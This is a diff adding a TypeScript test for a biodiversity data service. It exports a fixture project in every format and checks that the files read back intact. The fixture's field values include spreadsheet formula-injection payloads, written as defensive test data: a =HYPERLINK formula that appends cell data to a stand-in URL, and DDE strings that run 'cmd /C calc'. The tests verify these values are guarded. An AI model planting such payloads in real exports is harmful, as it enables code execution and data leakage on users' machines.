@@ -1,0 +1,419 @@
+/**
+ * Issue 12: every file stays valid and truthful on hostile and edge-case data. A fixture project
+ * with several instances of each kind (text that would break its container, ids past 2^53,
+ * impossible or partial coordinates, cells that spreadsheets would run as formulas, accents for
+ * Excel) is exported in every registered format through the API, a real worker and storage,
+ * with EXPORT_BATCH_SIZE=1, and each file is read back by independent readers: Python's csv and
+ * strict json, str.splitlines, zipfile and python-dwca-reader, lxml against the EML 2.2.0 schema.
+ */
+import type { Sql } from "../db/client.ts";
+import { supportedFormats } from "../registry/mod.ts";
+import { assert, assertEquals } from "./assert.ts";
+import { checkDwca, unzipText } from "./dwca.ts";
+import { createUser } from "./fixtures/access.ts";
+import { type Harness, startHarness } from "./harness.ts";
+import { EML_XSD, readWith } from "./readers.ts";
+import { serviceTest } from "./support.ts";
+
+/** Occurrence, detection and taxon ids past 2^53 (Number() turns …995 and …996 into one). */
+const BIG = {
+  taxon: "9007199254740993",
+  o1: "9007199254740995",
+  o2: "9007199254740996",
+  d1: "9007199254740997",
+  d2: "9007199254740998",
+};
+
+const NAMES = {
+  hyperlink: '=HYPERLINK("http://x.invalid/?d="&A2,"map")',
+  lines: "-Station\u2028two\u0085\tTab\r\nline",
+  accents: "Écaille station",
+  at: "@North",
+  nonFinite: "NaN place",
+  verifier: "+cmd|' /C calc'!A0",
+  agreedWith: "@SUM(1+1)*cmd|' /C calc'!A0",
+  owner: "Owner\u0002 Écaille",
+  project: "Night moths\u0002 =survey",
+  description: "Pasted from Word\u0002\u000B with a form feed\u000C, U+FFFE \uFFFE and a line " +
+    "separator\u2028 end",
+  taxonBig: "-Noctua pronuba",
+  taxonPlus: "+Agrotis",
+};
+
+interface Fixture {
+  projectId: number;
+  token: string;
+  occurrenceIds: string[];
+  detectionIds: string[];
+  deployments: Record<"hyperlink" | "lines" | "accents" | "at" | "nonFinite", string>;
+  taxonPlus: string;
+}
+
+async function createFixture(sql: Sql): Promise<Fixture> {
+  const tag = crypto.randomUUID().slice(0, 8);
+  const [ownerId, token] = await createUser(sql, `owner-${tag}`);
+  await sql`update users set name = ${NAMES.owner} where id = ${ownerId}`;
+  const [verifier] = await createUser(sql, `verifier-${tag}`);
+  await sql`update users set name = ${NAMES.verifier} where id = ${verifier}`;
+  const [agreed] = await createUser(sql, `agreed-${tag}`);
+  await sql`update users set name = ${NAMES.agreedWith} where id = ${agreed}`;
+  const insert = async (table: string, row: Record<string, unknown>): Promise<string> => {
+    const [{ id }] = await sql<{ id: number | string }[]>`
+      insert into ${sql(table)} ${sql(row)} returning id`;
+    return String(id);
+  };
+  const projectId = Number(
+    await insert("projects", {
+      name: NAMES.project,
+      slug: `hostile-${tag}`,
+      description: NAMES.description,
+      owner_id: ownerId,
+    }),
+  );
+  const station = (name: string, latitude: number | null, longitude: number | null) =>
+    insert("deployments", { project_id: projectId, name, latitude, longitude });
+  const deployments = {
+    hyperlink: await station(NAMES.hyperlink, 91, 10), // latitude out of range
+    lines: await station(NAMES.lines, null, 5), // half a pair
+    accents: await station(NAMES.accents, 1e-7, -2.5e-7), // valid, tiny: no exponent
+    at: await station(NAMES.at, 45.5, -73.25), // valid
+    nonFinite: await station(NAMES.nonFinite, NaN, Infinity), // not numbers
+  };
+  const taxonBig = await insert("taxa", { id: BIG.taxon, name: NAMES.taxonBig, rank: "SPECIES" });
+  const taxonPlus = await insert("taxa", { name: NAMES.taxonPlus, rank: "GENUS" });
+  const algorithm = await insert("algorithms", { name: "Moth classifier", key: `moth-${tag}` });
+
+  const occurrenceIds: string[] = [];
+  const detectionIds: string[] = [];
+  const plan: [keyof typeof deployments, string, number, string?, string?][] = [
+    ["accents", taxonPlus, 0.7],
+    ["at", taxonPlus, 0.6],
+    ["nonFinite", taxonBig, 0.5],
+    ["hyperlink", taxonBig, 0.9, BIG.o1, BIG.d1],
+    ["lines", taxonBig, 0.8, BIG.o2, BIG.d2],
+  ];
+  for (const [i, [key, taxon, score, occurrenceId, detectionId]] of plan.entries()) {
+    const deployment = deployments[key];
+    const start = new Date(Date.UTC(2024, 5, 1 + i, 21));
+    const event = await insert("events", {
+      project_id: projectId,
+      deployment_id: deployment,
+      start,
+      end: new Date(start.getTime() + 8 * 3600_000),
+    });
+    const image = await insert("source_images", {
+      project_id: projectId,
+      deployment_id: deployment,
+      event_id: event,
+      path: `captures/${i}.jpg`,
+      public_base_url: "https://cdn.example.org/",
+      timestamp: new Date(start.getTime() + 3600_000),
+    });
+    const occurrence = await insert("occurrences", {
+      ...(occurrenceId ? { id: occurrenceId } : {}),
+      project_id: projectId,
+      deployment_id: deployment,
+      event_id: event,
+      determination_id: taxon,
+      determination_score: score,
+    });
+    const detection = await insert("detections", {
+      ...(detectionId ? { id: detectionId } : {}),
+      occurrence_id: occurrence,
+      source_image_id: image,
+      bbox: [1, 2, 30, 40],
+      timestamp: new Date(start.getTime() + 3600_000),
+      path: `crops/${i}.jpg`,
+    });
+    await insert("classifications", {
+      detection_id: detection,
+      taxon_id: taxon,
+      algorithm_id: algorithm,
+      score,
+      terminal: true,
+    });
+    occurrenceIds.push(occurrence);
+    detectionIds.push(detection);
+  }
+  // verified_by: the verifier; agreed_with_user: the other member, whom the verifier agrees with
+  const [o3] = occurrenceIds;
+  const first = await insert("identifications", {
+    occurrence_id: o3,
+    user_id: agreed,
+    taxon_id: taxonPlus,
+    created_at: new Date("2024-06-10T08:00:00Z"),
+  });
+  await insert("identifications", {
+    occurrence_id: o3,
+    user_id: verifier,
+    taxon_id: taxonPlus,
+    agreed_with_identification_id: first,
+    created_at: new Date("2024-06-10T09:00:00Z"),
+  });
+  await insert("identifications", {
+    occurrence_id: BIG.o1,
+    user_id: verifier,
+    taxon_id: taxonBig,
+    created_at: new Date("2024-06-10T09:00:00Z"),
+  });
+  return { projectId, token, occurrenceIds, detectionIds, deployments, taxonPlus };
+}
+
+async function exportFile(
+  h: Harness,
+  f: Fixture,
+  format: string,
+  extra: Record<string, unknown> = {},
+): Promise<{ done: Record<string, unknown>; bytes: Uint8Array }> {
+  const res = await h.api("POST", "/api/v2/exports/", {
+    token: f.token,
+    body: { project: f.projectId, format, filters: {}, ...extra },
+  });
+  const created = await res.json();
+  assertEquals(res.status, 201, JSON.stringify(created));
+  const done = await h.waitForExport(created.id as number, f.token, 120_000);
+  assertEquals(done.status, "SUCCESS", JSON.stringify(done));
+  const bytes = await h.download(done.file_url as string);
+  assertEquals(done.file_size, bytes.length);
+  return { done, bytes };
+}
+
+/** CSV rows as objects by header (Python's csv). */
+async function csvRecords(
+  bytes: Uint8Array,
+): Promise<{ bom: boolean; rows: Record<string, string>[] }> {
+  const read = await readWith("csv", bytes) as { bom: boolean; rows: string[][] };
+  const [header, ...rows] = read.rows;
+  return {
+    bom: read.bom,
+    rows: rows.map((r) => Object.fromEntries(header.map((name, i) => [name, r[i]]))),
+  };
+}
+
+const BOM = [0xEF, 0xBB, 0xBF];
+
+Deno.test({
+  name: "issue 12: hostile data in every format, read back by independent readers",
+  ...serviceTest,
+  async fn(t) {
+    const h = await startHarness({ storage: "fs", batchSize: 1 });
+    try {
+      const f = await createFixture(h.sql);
+      const allIds = [...f.occurrenceIds].sort((a, b) => (BigInt(a) < BigInt(b) ? -1 : 1));
+      const byDeployment = (key: keyof Fixture["deployments"]): string =>
+        f.occurrenceIds[["accents", "at", "nonFinite", "hyperlink", "lines"].indexOf(key)];
+      const exported: string[] = [];
+
+      await t.step("ids past 2^53 come out of postgres.js exact", async () => {
+        const rows = await h.sql<{ id: number | string }[]>`
+          select id from occurrences where project_id = ${f.projectId} order by id`;
+        assertEquals(rows.map((r) => String(r.id)), allIds);
+        assertEquals(rows.slice(-2).map((r) => r.id), [BIG.o1, BIG.o2]);
+      });
+
+      await t.step(
+        "occurrences_simple_csv: exact ids, formula-guarded text, BOM only on request",
+        async () => {
+          const { done, bytes } = await exportFile(h, f, "occurrences_simple_csv");
+          exported.push("occurrences_simple_csv");
+          assert(!BOM.every((b, i) => bytes[i] === b), "default output has a BOM");
+          const { bom, rows } = await csvRecords(bytes);
+          assertEquals(bom, false);
+          assertEquals(done.record_count, 5);
+          assertEquals(rows.length, 5);
+          assertEquals(rows.map((r) => r.id), allIds);
+          const row = (id: string): Record<string, string> => rows.find((r) => r.id === id)!;
+          assertEquals(row(BIG.o1).deployment_name, "'" + NAMES.hyperlink);
+          assertEquals(row(BIG.o1).verified_by, "'" + NAMES.verifier);
+          assertEquals(row(BIG.o1).determination_name, "'" + NAMES.taxonBig);
+          assertEquals(row(BIG.o2).deployment_name, "'" + NAMES.lines); // tabs, CR, LF kept
+          assertEquals(row(f.occurrenceIds[0]).agreed_with_user, "'" + NAMES.agreedWith);
+          assertEquals(row(f.occurrenceIds[0]).deployment_name, NAMES.accents);
+          assertEquals(row(f.occurrenceIds[0]).determination_name, "'" + NAMES.taxonPlus);
+          assertEquals(row(byDeployment("at")).deployment_name, "'" + NAMES.at);
+          assertEquals(row(BIG.o1).project_name, NAMES.project); // starts with N: unguarded
+          assertEquals(row(BIG.o1).determination_score, "0.9"); // numbers stay numbers
+
+          // excel_compatible: the same bytes after a UTF-8 BOM
+          const excel = await exportFile(h, f, "occurrences_simple_csv", {
+            excel_compatible: true,
+          });
+          assertEquals(excel.done.excel_compatible, true);
+          assertEquals(done.excel_compatible, false);
+          assertEquals([...excel.bytes.slice(0, 3)], BOM);
+          assertEquals(excel.bytes.slice(3), bytes);
+          assertEquals((await csvRecords(excel.bytes)).bom, true);
+          assertEquals(excel.done.record_count, 5);
+        },
+      );
+
+      await t.step("occurrences_api_json: strict JSON, exact integer ids, exact text", async () => {
+        const { done, bytes } = await exportFile(h, f, "occurrences_api_json");
+        exported.push("occurrences_api_json");
+        const docs = await readWith("json", bytes) as Record<string, unknown>[];
+        assertEquals(done.record_count, docs.length);
+        assertEquals(docs.map((d) => d.id), allIds); // integers in the file (ints_as_text)
+        const o1 = docs.find((d) => d.id === BIG.o1)!;
+        assertEquals((o1.deployment as { name: string }).name, NAMES.hyperlink);
+        assertEquals((o1.determination as { id: string }).id, BIG.taxon);
+        assertEquals((o1.detections as { id: string }[]).map((d) => d.id), [BIG.d1]);
+        const o2 = docs.find((d) => d.id === BIG.o2)!;
+        assertEquals((o2.deployment as { name: string }).name, NAMES.lines);
+        const text = new TextDecoder().decode(bytes);
+        assert(text.includes(`"id" : ${BIG.o1},`) || text.includes(`"id":${BIG.o1}`), "id as text");
+      });
+
+      await t.step("occurrences_ndjson: one record per line for str.splitlines", async () => {
+        const { done, bytes } = await exportFile(h, f, "occurrences_ndjson");
+        exported.push("occurrences_ndjson");
+        const text = new TextDecoder().decode(bytes);
+        assert(!/[\u0085\u2028\u2029]/.test(text), "raw U+0085/U+2028/U+2029 in NDJSON");
+        assert(text.includes("\\u2028") && text.includes("\\u0085"));
+        const read = await readWith("ndjson", bytes) as {
+          lines: string;
+          records: Record<string, unknown>[];
+        };
+        assertEquals(Number(read.lines), 5);
+        assertEquals(done.record_count, 5);
+        assertEquals(read.records.map((d) => d.id), allIds);
+        const o2 = read.records.find((d) => d.id === BIG.o2)!;
+        assertEquals((o2.deployment as { name: string }).name, NAMES.lines);
+      });
+
+      await t.step("detections_csv: exact detection ids, guarded names", async () => {
+        const { done, bytes } = await exportFile(h, f, "detections_csv");
+        exported.push("detections_csv");
+        const { rows } = await csvRecords(bytes);
+        assertEquals(done.record_count, 5);
+        assertEquals(rows.length, 5);
+        assertEquals(
+          rows.map((r) => r.detection_id).sort(),
+          [...f.detectionIds].sort(),
+        );
+        const d1 = rows.find((r) => r.detection_id === BIG.d1)!;
+        assertEquals(d1.occurrence_id, BIG.o1);
+        assertEquals(d1.determination_name, "'" + NAMES.taxonBig);
+        assertEquals(d1.top_classification_score, "0.9");
+        assertEquals(rows.find((r) => r.detection_id === BIG.d2)!.occurrence_id, BIG.o2);
+        const excel = await exportFile(h, f, "detections_csv", { excel_compatible: true });
+        assertEquals(excel.bytes.slice(3), bytes);
+      });
+
+      await t.step("taxa_list_csv: exact taxon ids, guarded names", async () => {
+        const { done, bytes } = await exportFile(h, f, "taxa_list_csv");
+        exported.push("taxa_list_csv");
+        const { rows } = await csvRecords(bytes);
+        assertEquals(done.record_count, 2);
+        assertEquals(rows.map((r) => r.taxon_id), [f.taxonPlus, BIG.taxon]);
+        assertEquals(rows.map((r) => r.taxon_name), ["'" + NAMES.taxonPlus, "'" + NAMES.taxonBig]);
+        assertEquals(rows.map((r) => r.occurrence_count), ["2", "3"]);
+        const excel = await exportFile(h, f, "taxa_list_csv", { excel_compatible: true });
+        assertEquals([...excel.bytes.slice(0, 3)], BOM);
+        assertEquals(excel.bytes.slice(3), bytes);
+      });
+
+      await t.step("dwca: valid EML 2.2.0, WGS84 or nothing, exact ids, exact text", async () => {
+        const { done, bytes } = await exportFile(h, f, "dwca");
+        exported.push("dwca");
+        const report = await checkDwca(bytes);
+        assertEquals(report.testzip, null);
+        assertEquals(done.record_count, 5);
+        assertEquals(report.files["occurrence.txt"].rows, 5);
+        assertEquals(report.files["event.txt"].rows, 5);
+        assertEquals(report.duplicate_core_ids, 0);
+        assertEquals(report.reader.core_rows, 5);
+        for (const ext of Object.values(report.reader.extensions)) {
+          assertEquals(ext.rows, ext.linked);
+        }
+
+        const eml = await unzipText(bytes, "eml.xml");
+        const read = await readWith("xml", eml, { xsd: EML_XSD }) as {
+          valid: boolean;
+          errors: string[];
+          texts: string[];
+        };
+        assertEquals(read.errors, []);
+        assertEquals(read.valid, true);
+        assert(read.texts.includes("Night moths =survey"), JSON.stringify(read.texts));
+        const abstract = read.texts.find((s) => s.startsWith("Pasted from Word"))!;
+        assertEquals(
+          abstract,
+          "Pasted from Word with a form feed, U+FFFE  and a line separator\u2028 end",
+        );
+        assert(read.texts.includes("Owner Écaille"));
+        // bounding box of the two valid pairs only, as plain decimals
+        assertEquals(report.eml_bounds, {
+          westBoundingCoordinate: -73.25,
+          eastBoundingCoordinate: -2.5e-7,
+          northBoundingCoordinate: 45.5,
+          southBoundingCoordinate: 1e-7,
+        });
+        assert(eml.includes("<southBoundingCoordinate>0.0000001</southBoundingCoordinate>"));
+        assert(eml.includes("<eastBoundingCoordinate>-0.00000025</eastBoundingCoordinate>"));
+        const meta = await readWith("xml", await unzipText(bytes, "meta.xml")) as {
+          texts: string[];
+        };
+        assert(meta.texts.includes("event.txt"));
+
+        const events = await readWith("tsv", await unzipText(bytes, "event.txt")) as {
+          rows: string[][];
+        };
+        const [header, ...rows] = events.rows;
+        const col = (row: string[], name: string): string => row[header.indexOf(name)];
+        const byLocation = (id: string): string[] => rows.find((r) => col(r, "locationID") === id)!;
+        const pair = (id: string): string[] =>
+          ["decimalLatitude", "decimalLongitude", "geodeticDatum"].map((n) =>
+            col(byLocation(id), n)
+          );
+        assertEquals(pair(f.deployments.hyperlink), ["", "", ""]);
+        assertEquals(pair(f.deployments.lines), ["", "", ""]);
+        assertEquals(pair(f.deployments.nonFinite), ["", "", ""]);
+        assertEquals(pair(f.deployments.accents), ["0.0000001", "-0.00000025", "EPSG:4326"]);
+        assertEquals(pair(f.deployments.at), ["45.5", "-73.25", "EPSG:4326"]);
+        // the archive keeps exact values (no formula guard); TSV turns tabs and breaks to spaces
+        assertEquals(col(byLocation(f.deployments.hyperlink), "locality"), NAMES.hyperlink);
+        assertEquals(
+          col(byLocation(f.deployments.lines), "locality"),
+          "-Station\u2028two\u0085 Tab line",
+        );
+        const occ = await readWith("tsv", await unzipText(bytes, "occurrence.txt")) as {
+          rows: string[][];
+        };
+        const occHeader = occ.rows[0];
+        const ids = occ.rows.slice(1).map((r) => r[occHeader.indexOf("occurrenceID")]);
+        assertEquals(ids, allIds);
+        const o1 = occ.rows.find((r) => r[occHeader.indexOf("occurrenceID")] === BIG.o1)!;
+        assertEquals(o1[occHeader.indexOf("identifiedBy")], NAMES.verifier);
+        assertEquals(o1[occHeader.indexOf("scientificName")], NAMES.taxonBig);
+      });
+
+      await t.step("every registered format was checked; the option is CSV-only", async () => {
+        assertEquals([...exported].sort(), supportedFormats());
+        const res = await h.api("POST", "/api/v2/exports/", {
+          token: f.token,
+          body: {
+            project: f.projectId,
+            format: "occurrences_api_json",
+            filters: {},
+            excel_compatible: true,
+          },
+        });
+        assertEquals(res.status, 400, await res.clone().text());
+        const formats = await h.api("GET", "/api/v2/exports/formats/", { token: f.token });
+        const list = (await formats.json()).results as {
+          key: string;
+          accepted_options: string[];
+        }[];
+        for (const format of list) {
+          const csv = ["occurrences_simple_csv", "detections_csv", "taxa_list_csv"];
+          assertEquals(
+            format.accepted_options,
+            csv.includes(format.key) ? ["excel_compatible"] : [],
+          );
+        }
+      });
+    } finally {
+      await h.close();
+    }
+  },
+});
